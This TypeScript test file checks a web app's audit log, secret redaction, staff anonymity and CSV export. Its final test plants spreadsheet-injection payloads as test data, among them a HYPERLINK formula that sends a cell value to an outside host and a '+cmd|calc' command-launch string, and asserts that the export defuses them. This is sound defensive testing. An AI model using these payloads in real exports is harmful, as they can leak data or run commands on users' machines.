import type { LogEntry, LogPage, Visit } from '@jawla/domain'
import { parse } from 'csv-parse/sync'
import { expect, test } from 'vitest'
import { PEOPLE, post, type StaffedServer, signIn, startStaffed } from '../accounts/staffed-server.ts'
import { ask } from '../start-server.ts'

async function startSignedIn(env: Record<string, string> = {}) {
  const server = await startStaffed({ env })
  const [admin, reviewer] = [await signIn(server, PEOPLE.admin), await signIn(server, PEOPLE.reviewer)]
  const tell = async (cookie: string, procedure: string, input: unknown) => {
    const response = await post(server, `/trpc/${procedure}`, input, { cookie })
    const body = await response.json()
    if (response.status !== 200) throw new Error(`${procedure}: ${JSON.stringify(body)}`)
    return body.result.data
  }
  return { server, admin, reviewer, tell }
}

async function list(server: StaffedServer, cookie: string, filter: object = {}, rest: object = {}): Promise<LogPage> {
  return (await ask(server, 'decisions.list', { filter, ...rest }, { cookie })).body.result.data
}

async function someVisit(server: StaffedServer): Promise<Visit> {
  const [{ id }] = (await ask(server, 'visits.list', { filter: {} })).body.result.data.items
  return (await ask(server, 'visits.get', { id })).body.result.data.visit
}

const told = ({ kind, act, who, stands }: LogEntry) => `${kind} ${act} ${who.split('@')[0]} ${stands}`

test('every decision and what admins do is listed with who, on what, before and after, and whether it stands', async () => {
  const { server, admin, reviewer, tell } = await startSignedIn()
  const visit = await someVisit(server)
  const at = visit.figures[0]?.evidence
  const value = { measure: 'graduates', min: 130, max: 130, qualifier: 'exact', planned: false }
  const act = { act: 'change', visit: visit.id, field: 'figures', at, value, words: null }
  const { decisions } = await tell(reviewer, 'facts.decide', { act, why: 'النص يقول 130' })
  await tell(admin, 'facts.undo', { decisions })
  await tell(admin, 'facts.decide', { act: { act: 'accept', visit: visit.id, field: 'kind', at: [] } })
  const message = 'the day is another one'
  await tell('', 'objections.add', { visit: visit.id, field: 'date', message })
  const [{ id }] = (await ask(server, 'objections.open', {}, { cookie: admin })).body.result.data
  await tell(reviewer, 'objections.settle', { id, state: 'declined', answer: 'The report says so.' })

  const hind = { email: 'hind@jawla.example', name: 'Hind', role: 'reviewer' }
  const { password } = await tell(admin, 'accounts.add', hind)
  await tell(admin, 'accounts.setRole', { email: hind.email, role: 'admin' })
  await tell(admin, 'accounts.setRole', { email: hind.email, role: 'admin' })
  const renewed = await tell(admin, 'accounts.renewPassword', { email: hind.email })
  await tell(admin, 'accounts.setDisabled', { email: hind.email, disabled: true })
  expect((await server.jawla('user', 'enable', hind.email)).code).toBe(0)
  const { items } = await list(server, reviewer)
  const tellings = visit.figures[0]?.evidence.length ?? 0
  expect(items.map(told)).toEqual([
    'account on command line null',
    'account off amina null',
    'account password amina null',
    'account role amina null',
    'account added amina null',
    'objection declined rachid true',
    ...items.filter((one) => one.field === 'kind').map(() => 'fact accepted amina true'),
    ...Array.from({ length: tellings }, () => 'fact undone amina null'),
    ...Array.from({ length: tellings }, () => 'fact changed rachid false'),
    ...['driss', 'rachid', 'amina'].map(() => 'account added staff null'),
  ])
  expect(items.find((one) => one.act === 'role')).toMatchObject({
    ...{ thing: hind.email, before: { role: 'reviewer' }, after: { role: 'admin' }, name: 'Amina' },
  })
  expect(items.find((one) => one.kind === 'objection')).toMatchObject({
    ...{ field: 'date', before: message, after: 'declined', why: 'The report says so.', visits: [{ id: visit.id }] },
  })
  expect(items.find((one) => one.act === 'changed')).toMatchObject({
    ...{ who: PEOPLE.reviewer.email, name: 'Rachid', field: 'figures', why: 'النص يقول 130', after: { min: 130 } },
    ...{ visits: [{ id: visit.id }], reports: [{ id: expect.stringMatching(/^fes-/) }] },
  })
  // Nothing that lets anybody in is kept.
  expect(JSON.stringify(items)).not.toContain(password)
  expect(JSON.stringify(items)).not.toContain(renewed.password)

  const kinds = async (filter: object) => (await list(server, reviewer, filter)).items.map(told)
  expect(new Set(await kinds({ kind: 'fact', who: PEOPLE.reviewer.email }))).toEqual(
    new Set(['fact changed rachid false']),
  )
  expect(await kinds({ kind: 'visits' })).toEqual([])
  expect(await kinds({ to: '2020-01-01' })).toEqual([])
  expect(await kinds({ from: '2020-01-01', kind: 'objection' })).toEqual(['objection declined rachid true'])
  const people = (await ask(server, 'decisions.people', null, { cookie: reviewer })).body.result.data
  expect(people).toEqual([
    { who: PEOPLE.admin.email, name: 'Amina' },
    { who: 'command line', name: null },
    { who: PEOPLE.reviewer.email, name: 'Rachid' },
    { who: 'staff', name: null },
  ])

  const paged: LogEntry[] = []
  for (let cursor: string | null = null; ; ) {
    const page: LogPage = await list(server, reviewer, {}, { cursor, limit: 2 })
    paged.push(...page.items)
    cursor = page.nextCursor
    if (cursor === null) break
  }
  expect(paged).toEqual(items)
  for (const cursor of ['', 'x', '2026-01-01T00:00:00Z_9_1', '2026-99-01T00:00:00Z_1_1'])
    expect((await ask(server, 'decisions.list', { filter: {}, cursor }, { cookie: reviewer })).status).toBe(400)
  await server.stop()
})

test('what is done to feeds and alerts is kept, but no secret', async () => {
  const { server, admin, tell } = await startSignedIn({ FETCH_ALLOW: '127.0.0.1:9' })
  const [{ url }] = (await ask(server, 'feeds.list', null, { cookie: admin })).body.result.data
  const { ids } = await tell(admin, 'feeds.switch', { feed: url, on: true })
  await tell(admin, 'feeds.switch', { feed: ids[0], on: false })
  await tell(admin, 'feeds.remove', { feed: ids[0] })
  const alert = { name: 'فاس', filter: { regions: ['MA-03'] }, channel: 'webhook', language: 'ar' }
  const { id, secret } = await tell(admin, 'alerts.add', { ...alert, target: 'http://127.0.0.1:9/hook' })
  await tell(admin, 'alerts.change', { id, change: { on: false } })
  await tell(admin, 'alerts.change', { id, change: { name: 'فاس ومكناس' } })
  const renewed = await tell(admin, 'alerts.renewSecret', { id })
  await tell(admin, 'alerts.remove', { id })
  const { items } = await list(server, admin, { who: PEOPLE.admin.email })
  expect(items.map(({ kind, act, thing }) => `${kind} ${act} ${thing}`)).toEqual([
    'alert removed فاس ومكناس',
    'alert secret فاس ومكناس',
    'alert changed فاس ومكناس',
    'alert off فاس',
    'alert added فاس',
    `feed removed ${url}`,
    `feed off ${url}`,
    `feed on ${url}`,
  ])
  for (const hidden of [secret, renewed.secret]) expect(JSON.stringify(items)).not.toContain(hidden)
  await server.stop()
})

test('a visit tells everybody what was decided about it, and nobody but staff who did', async () => {
  const { server, admin, reviewer, tell } = await startSignedIn()
  const { id } = await someVisit(server)
  const before = await ask(server, 'visits.get', { id })
  const decide = (act: object, why = '') => tell(reviewer, 'facts.decide', { act: { visit: id, ...act }, why })
  await decide({ act: 'accept', field: 'kind', at: [] }, 'as both reports say')
  const { visits } = await tell(admin, 'visits.split', { id, report: before.body.result.data.visit.reports[1] })
  const answer = await ask(server, 'visits.get', { id: visits[0] })
  expect(answer.body.result.data.history).toMatchObject([
    { field: null, act: 'apart', stands: true, changes: [] },
    {
      field: 'kind',
      act: 'accepted',
      stands: true,
      why: 'as both reports say',
      changes: [{ after: { kind: expect.any(String) } }],
    },
  ])
  expect(answer.headers.get('etag')).not.toBe(before.headers.get('etag'))
  const page = await (await fetch(`${server.url}/visits/${id}`)).text()
  for (const text of [JSON.stringify(answer.body), page]) {
    for (const { email, name } of Object.values(PEOPLE)) {
      expect(text).not.toContain(email)
      expect(text).not.toContain(name)
    }
  }
  // Also where staff ask: their answer is everybody's.
  expect((await ask(server, 'visits.get', { id: visits[0] }, { cookie: admin })).body).toEqual(answer.body)
  const signed = (await ask(server, 'facts.history', { id: visits[0] }, { cookie: reviewer })).body.result.data
  expect(signed).toMatchObject([
    { who: PEOPLE.admin.email, name: 'Amina' },
    { who: PEOPLE.reviewer.email, name: 'Rachid' },
  ])
  await server.stop()
})

test('the table is whole and computes nothing, whatever reports, reasons and names hold', async () => {
  const { server, admin, reviewer, tell } = await startSignedIn()
  const formula = '=HYPERLINK("https://un.example/?x="&A1;"اضغط")'
  const text =
    'قام كاتب الدولة المكلف بالصناعة التقليدية، لحسن السعدي، يوم 5 مارس 2025، بزيارة ميدانية لمدينة صفرو. =1+1 "مركز", وأشرف على تخرج 120 متدربا.'
  const { reportId, visits } = await tell(reviewer, 'reports.add', {
    ...{ text, title: formula, published: '2025-03-06', outlet: '@SUM(A1)', url: 'https://outlet.example/=1' },
  })
  const start = text.indexOf('=1+1')
  const words = { reportId, start, end: start + 14, quote: text.slice(start, start + 14) }
  const reasons = [formula, '-1\n=1+1\r\n,"', '  ＝1+1', 'قال\u202e =1', '\u200f+212', '"', '']
  for (const why of reasons) {
    const act = { act: 'add', visit: visits[0], field: 'crafts', value: { name: '=1+1 "craft"' }, words }
    await tell(reviewer, 'facts.decide', { act, why })
  }
  await tell(admin, 'accounts.add', { email: '+1-1@jawla.example', name: '+cmd|calc', role: 'reviewer' })
  const get = (query: string) => fetch(`${server.url}/desk/decisions.csv${query}`, { headers: { cookie: reviewer } })
  const response = await get('?bom=1')
  expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8')
  expect(response.headers.get('content-disposition')).toContain('jawla-decisions.csv')
  const bytes = Buffer.from(await response.arrayBuffer())
  expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
  const rows: Record<string, string>[] = parse(bytes, { bom: true, columns: true })
  const { items } = await list(server, reviewer, {}, { limit: 100 })
  expect(rows.map(({ at, who, act }) => [at, who?.replace(/^'/, ''), act])).toEqual(
    items.map(({ at, who, act }) => [at, who, act]),
  )
  for (const cell of rows.flatMap(Object.values)) expect(cell).not.toMatch(/^[\s\p{Cf}]*[=+\-@＝＋－＠]/u)
  const crafts = rows.filter(({ field }) => field === 'crafts').reverse()
  expect(crafts.map(({ why }) => why?.replace(/^'/, ''))).toEqual(reasons.map((why) => why.trim()))
  expect(crafts[0]).toMatchObject({ titles: `'${formula}`, quote: `'${words.quote}` })
  expect(JSON.parse(crafts[0]?.after ?? '')).toMatchObject({ name: '=1+1 "craft"' })
  expect(rows.find(({ act, thing }) => act === 'added' && thing?.includes('1-1'))).toMatchObject({
    ...{ thing: "'+1-1@jawla.example", after: expect.stringContaining('+cmd|calc') },
  })

  const some = async (query: string): Promise<Record<string, string>[]> =>
    parse(await (await get(query)).text(), { columns: true })
  expect((await some(`?kind=account&who=${encodeURIComponent(PEOPLE.admin.email)}`)).map(({ act }) => act)).toEqual([
    'added',
  ])
  expect(await some('?kind=visits')).toEqual([])
  expect((await get('?kind=all')).status).toBe(400)
  expect((await get('?whom=x')).status).toBe(400)
  await server.stop()
})
